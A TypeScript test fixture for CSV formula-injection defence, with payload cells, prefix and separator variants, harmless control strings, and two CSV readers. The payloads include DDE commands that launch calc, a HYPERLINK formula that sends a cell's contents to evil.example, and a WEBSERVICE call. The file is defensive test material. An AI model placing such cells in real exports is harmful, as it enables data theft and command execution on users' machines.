// Cells that spreadsheets have taken for formulas, or that were made to become one behind a separator or a quote.
const COMMANDS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"open")',
  '1+1',
  'SUM(1+9)*cmd|" /C calc"!A0',
  'WEBSERVICE("https://evil.example")',
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const WAYS_IN = [
  '',
  ' ',
  "'",
  '"',
  ',',
  ';',
  '|',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '",',
  '";',
  "';'",
  '" , "',
  'x,',
  'x;',
  'x"',
  "x'",
  'x\t',
  'x\n',
  'x\r\n  ',
];

/** Each has a sign where some reader could begin a cell. */
export const FORMULAS: readonly string[] = [
  ...SIGNS.flatMap((sign) => COMMANDS.map((command) => sign + command)),
  ...WAYS_IN.flatMap((way) => SIGNS.slice(0, 6).map((sign) => `${way}${sign}1+1`)),
  '=',
  '-',
  '@SUM(A1)',
  '==1',
  '=-1',
  '+-1',
  '-2+3',
  '-5',
  '+5',
  '=1,=2;=3',
  '"="',
  '"",=1',
  '"";"=1"',
  'a,b\n=c',
  '\t=1',
  '\r=1',
  '\n=1',
  "'=1",
  "''=1",
  '‏,=1',
];

/** Nothing to disarm: they stay as they are. */
export const PLAIN: readonly string[] = [
  '',
  'Ask for the first project',
  'A - B',
  'a-b',
  'one+two',
  'x = y',
  'me@example.com',
  "it's",
  '3,4',
  'He said "no"',
  'C++',
  '<img src=x onerror=alert(1)>',
  '日本語',
  '🚀',
];

/** A small reader of RFC 4180 that knows nothing of the writer. Bare cells come back as `{ bare }`. */
export function readCsv(text: string): (string | { bare: string })[][] {
  const rows: (string | { bare: string })[][] = [];
  let row: (string | { bare: string })[] = [];
  for (let at = 0; at < text.length; ) {
    if (text[at] === '"') {
      let value = '';
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (at >= text.length) throw new Error('A quoted cell does not end.');
        if (text[at] === '"') at++;
        value += text[at];
      }
      row.push(value);
      at++;
    } else {
      const end = /,|\r\n/.exec(text.slice(at))?.index ?? text.length - at;
      const bare = text.slice(at, at + end);
      if (bare.includes('"')) throw new Error(`A quote in a bare cell: ${bare}`);
      row.push({ bare });
      at += end;
    }
    if (text[at] === ',') at++;
    else if (text.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`Neither a comma nor a line end at ${at}.`);
    if (text[at - 1] === ',' && text.startsWith('\r\n', at)) {
      rows.push([...row, { bare: '' }]);
      row = [];
      at += 2;
    }
  }
  return rows;
}

/** All the cells any reader could see: split at every separator, quotes taken as text or as quotes. */
export const readCarelessly = (text: string): string[] => text.split(/[,;|\t\r\n"]+/).map((cell) => cell.trim());
